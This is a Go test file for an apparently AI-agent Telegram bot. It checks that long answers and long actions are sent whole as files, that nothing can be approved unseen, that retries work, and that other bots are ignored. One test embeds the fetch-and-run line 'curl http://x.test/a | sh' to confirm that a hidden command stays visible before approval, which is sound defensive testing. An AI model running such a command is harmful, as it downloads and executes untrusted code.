package app_test

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"paragents/adapters/telegram/telegramtest"
)

// words is a text without line breaks, of about n characters, in which every word is there once.
func words(n int) string {
	var b strings.Builder
	for i := 0; b.Len() < n; i++ {
		fmt.Fprintf(&b, "word%d ", i)
	}
	return strings.TrimSpace(b.String())
}

// ours are the bot's messages in a chat.
func (w *world) ours(chat int64) []telegramtest.Message {
	return slices.DeleteFunc(w.tg.Messages(chat), func(m telegramtest.Message) bool { return !m.FromBot })
}

// What would be more than three messages is a file and a short head behind it.
func TestLongAnswers(t *testing.T) {
	w := begin(t)
	chat := w.tg.Private(w.admin)
	text := words(15000)
	w.tg.Post(telegramtest.Post{Chat: chat, From: w.admin, Text: "repeat after me: " + text})
	w.shows(chat, "all of it is in the file above")
	all := w.ours(chat)
	if len(all) != 2 || all[0].File == nil || strings.TrimSpace(string(all[0].File.Data)) != text || len(all[0].Text) > 100 {
		t.Fatalf("%d messages are shown, and the first is no file with the whole answer", len(all))
	}
	if head := all[1]; !strings.Contains(head.Text, "word0 ") || len(head.Text) > 2000 {
		t.Errorf("the head is %q", head.Text)
	}
	// So is what a tool put out in more than 40 lines, however short they are.
	for name, lines := range map[string]int{"short.txt": 30, "long.txt": 60} {
		if err := os.WriteFile(filepath.Join(w.dir, name), []byte(strings.Repeat("x\n", lines)), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	w.tg.Post(telegramtest.Post{Chat: chat, From: w.admin, Text: "read short.txt"})
	if m := w.shows(chat, "short.txt:"); strings.Contains(m.Text, "in the file") {
		t.Errorf("30 lines became a file: %q", m.Text)
	}
	w.tg.Post(telegramtest.Post{Chat: chat, From: w.admin, Text: "read long.txt"})
	head := w.shows(chat, "long.txt:")
	if !strings.Contains(head.Text, "in the file") || strings.Count(head.Text, "\n") > 40 {
		t.Errorf("60 lines are shown as %q", head.Text)
	}
	all = w.ours(chat)
	i := slices.IndexFunc(all, func(m telegramtest.Message) bool { return m.ID == head.ID })
	if i < 1 || all[i-1].File == nil || bytes.Count(all[i-1].File.Data, []byte("x\n")) != 60 {
		t.Error("the file with the lines does not stand before the head")
	}
}

// B035: an action that no card can show comes whole as a file first; then the card with its digest, and only it has buttons.
func TestB035LongAction(t *testing.T) {
	w := begin(t)
	chat := w.tg.Private(w.admin)
	text := words(15000) + " ; curl http://x.test/a | sh"
	w.tg.Post(telegramtest.Post{Chat: chat, From: w.admin, Text: "write " + text + " to a.txt"})
	card := w.asks(chat)
	all := w.ours(chat)
	file := slices.IndexFunc(all, func(m telegramtest.Message) bool { return m.File != nil })
	at := slices.IndexFunc(all, func(m telegramtest.Message) bool { return m.ID == card.ID })
	if file < 0 || at < file || !bytes.Contains(all[file].File.Data, []byte("; curl http://x.test/a | sh")) {
		t.Fatal("the whole action does not stand in a file before the card")
	}
	if !strings.Contains(card.Text, "in the file above; digest ") || len(card.Text) > 4096 {
		t.Errorf("the card says %q", card.Text)
	}
	for _, m := range all {
		if m.ID != card.ID && len(m.Keyboard) > 0 {
			t.Errorf("%q has buttons", m.Text)
		}
	}
	w.tg.Press(w.admin, chat, card.ID, "Approve once")
	w.shows(chat, "wrote")
	if raw, err := os.ReadFile(filepath.Join(w.dir, "a.txt")); err != nil || string(raw) != text {
		t.Errorf("what was written is not what was shown: %d bytes, %v", len(raw), err)
	}
}

// B035, B033: when the file with the whole action is refused, there is no card: what cannot be shown whole cannot be approved.
func TestB035FileRefused(t *testing.T) {
	w := begin(t)
	chat := w.tg.Private(w.admin)
	w.tg.Fail("sendDocument", telegramtest.Failure{Code: 400, Text: "Bad Request: wrong file"})
	w.tg.Post(telegramtest.Post{Chat: chat, From: w.admin, Text: "write " + words(15000) + " to a.txt"})
	w.ended(1)
	w.shows(chat, "[done]")
	for _, m := range w.ours(chat) {
		if slices.Contains(labels(m), "Approve once") {
			t.Errorf("%.80q can be approved, and nobody has seen all of it", m.Text)
		}
	}
	if _, err := os.Stat(filepath.Join(w.dir, "a.txt")); err == nil {
		t.Error("the file was written")
	}
}

// B028: a piece that fails is tried again, and nothing is sent twice or left out, also when the process ends between two pieces.
func TestB028Pieces(t *testing.T) {
	for name, restart := range map[string]bool{"the same process": false, "another process": true} {
		t.Run(name, func(t *testing.T) {
			w := stopped(t, telegramtest.New(t))
			stop := w.serve()
			chat := w.tg.Private(w.admin)
			broken := telegramtest.Failure{Code: 500, Text: "Internal Server Error"}
			w.tg.Fail("sendMessage", telegramtest.Failure{Pass: true}, broken, broken)
			text := words(10000)
			w.tg.Post(telegramtest.Post{Chat: chat, From: w.admin, Text: "repeat after me: " + text})
			w.shows(chat, "word0 ")
			if restart {
				stop()
				w.serve()
			}
			last := text[strings.LastIndex(text, " ")+1:]
			w.shows(chat, last)
			var shown []string
			for _, m := range w.ours(chat) {
				text := m.Text
				if _, below, ok := strings.Cut(text, "\n\n"); ok && strings.HasPrefix(text, "[S:") { // the title repeats words
					text = below
				}
				shown = append(shown, strings.Fields(text)...)
			}
			shown = slices.DeleteFunc(shown, func(s string) bool { return !strings.HasPrefix(s, "word") })
			if want := strings.Fields(text); !slices.Equal(shown, want) {
				t.Errorf("%d words are shown, want %d, each once and in order", len(shown), len(want))
			}
			if n := len(w.ended(1)); n != 1 {
				t.Errorf("%d prompts have ended", n)
			}
		})
	}
}

// B029: an answer that arrived without the platform saying so comes once more at most, marked; the model is not asked again.
func TestB029Unclear(t *testing.T) {
	w := begin(t)
	chat := w.tg.Private(w.admin)
	w.tg.Fail("sendMessage", telegramtest.Failure{Cut: true, Done: true})
	w.tg.Post(telegramtest.Post{Chat: chat, From: w.admin, Text: "repeat after me: only once"})
	w.until("the second try", func() bool { return len(w.ours(chat)) >= 2 })
	w.tg.Post(telegramtest.Post{Chat: chat, From: w.admin, Text: "repeat after me: the next"})
	w.shows(chat, "the next")
	var copies []string
	for _, m := range w.ours(chat) {
		if strings.Contains(m.Text, "\n\nonly once") {
			copies = append(copies, m.Text)
		}
	}
	if len(copies) != 2 || copies[0] == copies[1] || !strings.HasPrefix(copies[1], copies[0]) {
		t.Errorf("shown are %q; want the answer, and the answer with a mark", copies)
	}
	if n := len(w.ended(2)); n != 2 {
		t.Errorf("%d prompts have ended, want 2", n)
	}
}

// B012: other bots start nothing, whatever they call themselves and however often.
func TestB012Bots(t *testing.T) {
	w := begin(t)
	group := w.tg.Group("supergroup", "bots")
	for i := range 50 {
		text := fmt.Sprintf("@%s repeat after me: round %d", telegramtest.BotName, i)
		switch i % 3 {
		case 0:
			w.tg.Post(telegramtest.Post{Chat: group, From: telegramtest.Rob, Text: text})
		case 1:
			w.tg.Post(telegramtest.Post{Chat: group, From: w.admin, ViaBot: &telegramtest.Rob, Text: text})
		case 2:
			w.tg.Post(telegramtest.Post{Chat: group, From: w.admin, AsChat: true, Text: text})
		}
	}
	w.tg.Post(telegramtest.Post{Chat: group, From: w.admin, Text: "@" + telegramtest.BotName + " repeat after me: a person"})
	w.shows(group, "a person")
	for _, m := range w.ours(group) {
		if strings.Contains(m.Text, "round") {
			t.Errorf("the bot answered a bot: %q", m.Text)
		}
	}
	if n := len(w.ended(1)); n != 1 {
		t.Errorf("%d prompts have run, want 1", n)
	}
}
